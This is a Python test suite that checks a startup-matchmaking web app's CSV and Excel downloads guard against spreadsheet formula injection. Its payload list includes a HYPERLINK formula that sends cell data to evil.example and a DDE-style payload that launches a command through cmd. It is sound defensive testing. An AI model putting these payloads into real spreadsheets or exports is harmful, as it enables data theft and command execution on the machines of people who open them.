"""Formula injection: every CSV and Excel download writes founder-entered text as text.

Each download is fetched over HTTP with formula-like names and descriptions stored in the rows it
lists, then every cell is read back (csv.reader, openpyxl) and checked: no formula cell, no text
cell that starts with a formula character unguarded, and the payloads present, guarded (so the
check cannot pass on an empty file)."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from matchmaker.models import FundingAsk, Mentor
from matchmaker.models.funding import Pitch
from matchmaker.models.operator import Policy
from matchmaker.services import exports
from matchmaker.services.facilities import vouchers
from matchmaker.services.operator import disclosure
from tests.factories import (
    make_equipment,
    make_facility,
    make_investor,
    make_mentor,
    make_startup,
    make_user,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "＝1+1",
]
FORMULA_CHARS = set("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def app(make_app: Any) -> Flask:
    return make_app(EMBEDDING_MODEL="hashing")


def _login(client: FlaskClient, email: str) -> None:
    client.post("/auth/logout")
    client.post("/auth/login", data={"email": email, "password": "password123"})


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_guarded_text(cells: list[Any], where: str) -> set[str]:
    """Every text cell is safe; returns the texts seen (to look the payloads up)."""
    seen: set[str] = set()
    for value in cells:
        if not isinstance(value, str) or not value:
            continue
        seen.add(value)
        first = value.lstrip(" ")[:1]
        assert first not in FORMULA_CHARS or _is_number(value), f"{where}: {value!r}"
    return seen


def csv_cells(data: bytes) -> set[str]:
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return _assert_guarded_text([c for row in rows for c in row], "csv")


def xlsx_cells(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    values: list[Any] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return _assert_guarded_text(values, "xlsx")


def assert_payloads_guarded(seen: set[str], payloads: list[str], where: str) -> None:
    for payload in payloads:
        # XML reads a stored CR back as LF
        wanted = ("'" + payload, "'" + payload.replace("\r", "\n"))
        assert any(w in text for text in seen for w in wanted), f"{where}: {payload!r} missing"


def test_the_guard_covers_owasp_prefixes_and_leaves_numbers_alone() -> None:
    for payload in PAYLOADS:
        assert exports.guard_text(payload) == "'" + payload
    assert exports.guard_text("  =1") == "'  =1"
    assert exports.guard_text("\n=1") == "'\n=1"
    assert exports.guard_text("SparkCell") == "SparkCell"
    assert exports.guard_text("澜锂新材料") == "澜锂新材料"
    text = exports.csv_text([["a;=1+1", -5, Decimal("-2.50"), 3.5, None, True]])
    assert text == '"a;=1+1",-5,-2.50,3.5,,True\r\n'  # ";" quoted, numbers stay numbers
    book = load_workbook(io.BytesIO(exports.to_xlsx([("s", ["h"], [[-5], ["=1+1"], ["x\x00"]])])))
    sheet = book["s"]
    assert sheet["A2"].value == -5 and sheet["A2"].data_type == "n"
    assert sheet["A3"].value == "'=1+1" and sheet["A3"].data_type == "s"
    assert sheet["A4"].value == "x"  # a control character XML cannot hold is dropped, not a 500


def test_operator_directory_exports(client: FlaskClient, db_session: Session) -> None:
    operator = make_user(db_session, "operator")
    for payload in PAYLOADS:
        make_startup(db_session, name=payload, one_liner=payload, location=payload)
        make_mentor(db_session, headline=payload, organisation=payload)
        make_investor(db_session, name=payload, thesis=payload)
        facility = make_facility(db_session, name=payload, description=payload)
        make_equipment(db_session, facility, name=payload, model_specs=payload)
        db_session.add(Policy(title_en=payload, title_zh=payload, issuer_en=payload))
    db_session.commit()
    _login(client, operator.email)
    for kind in exports.EXPORT_KINDS:
        for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            response = client.get(f"/operator/export/{kind}.{fmt}")
            assert response.status_code == 200, (kind, fmt)
            assert_payloads_guarded(read(response.data), PAYLOADS, f"{kind}.{fmt}")


def test_voucher_ledgers(app: Flask, client: FlaskClient, db_session: Session) -> None:
    operator = make_user(db_session, "operator")
    founder = make_user(db_session, "founder")
    startups = [make_startup(db_session, founder, name=p) for p in PAYLOADS]
    today = date.today()
    with app.app_context():  # the service notifies after its commit
        for startup in startups:
            vouchers.issue_voucher(
                db_session, operator, startup_id=startup.id, amount=Decimal("500"),
                valid_from=today, valid_until=today + timedelta(days=30), categories=[],
                note="=1+1",
            )  # fmt: skip
    _login(client, founder.email)
    for startup, payload in zip(startups, PAYLOADS, strict=True):
        url = f"/facilities/vouchers/startup/{startup.id}"
        response = client.get(url + "?format=csv")
        assert response.status_code == 200
        assert_payloads_guarded(csv_cells(response.data), [payload], url)
        response = client.get(url + "?format=xlsx")
        assert response.status_code == 200
        assert_payloads_guarded(xlsx_cells(response.data), [payload], url)


def test_investor_pipeline_csv(client: FlaskClient, db_session: Session) -> None:
    partner = make_user(db_session, "investor")
    fund = make_investor(db_session, partner)
    for payload in PAYLOADS:
        startup = make_startup(db_session, name=payload)
        ask = FundingAsk(startup_id=startup.id, round="seed", amount=Decimal("1.5"), currency="CNY")
        db_session.add(ask)
        db_session.flush()
        db_session.add(Pitch(ask_id=ask.id, startup_id=startup.id, investor_id=fund.id))
    db_session.commit()
    _login(client, partner.email)
    response = client.get(f"/funding/deal-flow/{fund.id}/pipeline.csv")
    assert response.status_code == 200
    seen = csv_cells(response.data)
    assert_payloads_guarded(seen, PAYLOADS, "pipeline.csv")
    assert ",1.50,CNY," in response.data.decode("utf-8-sig")  # a number stays a number


def test_utilisation_exports(client: FlaskClient, db_session: Session) -> None:
    manager = make_user(db_session, "facility_manager")
    facility = make_facility(db_session, manager)
    for payload in PAYLOADS:
        make_equipment(db_session, facility, name=payload)
    _login(client, manager.email)
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(f"/facilities/manage/usage?format={fmt}")
        assert response.status_code == 200
        assert_payloads_guarded(read(response.data), PAYLOADS, f"usage.{fmt}")


def test_disclosure_csv_and_annual_report(
    app: Flask, client: FlaskClient, db_session: Session
) -> None:
    operator = make_user(db_session, "operator")
    with app.app_context():
        for payload in PAYLOADS:
            startup = make_startup(db_session, name=payload)
            disclosure.record_support(
                db_session, operator, disclosure.SupportGrant(
                    startup_id=startup.id, kind="subsidy", granted_on=date.today(),
                    amount=Decimal("100"), description=payload,
                ),
            )  # fmt: skip
            make_mentor(db_session, make_user(db_session, "mentor", display_name=payload))
            make_facility(db_session, name=payload)
    assert db_session.query(Mentor).count() == len(PAYLOADS)
    response = client.get("/disclosure/?format=csv")
    assert response.status_code == 200
    assert_payloads_guarded(csv_cells(response.data), PAYLOADS, "disclosure.csv")
    _login(client, operator.email)
    # The report is generated by a job (run at once by the test queue), then downloaded.
    assert client.post(f"/operator/reports?year={date.today().year}").status_code == 302
    response = client.get(f"/operator/reports/{date.today().year}.xlsx")
    assert response.status_code == 200
    xlsx_cells(response.data)
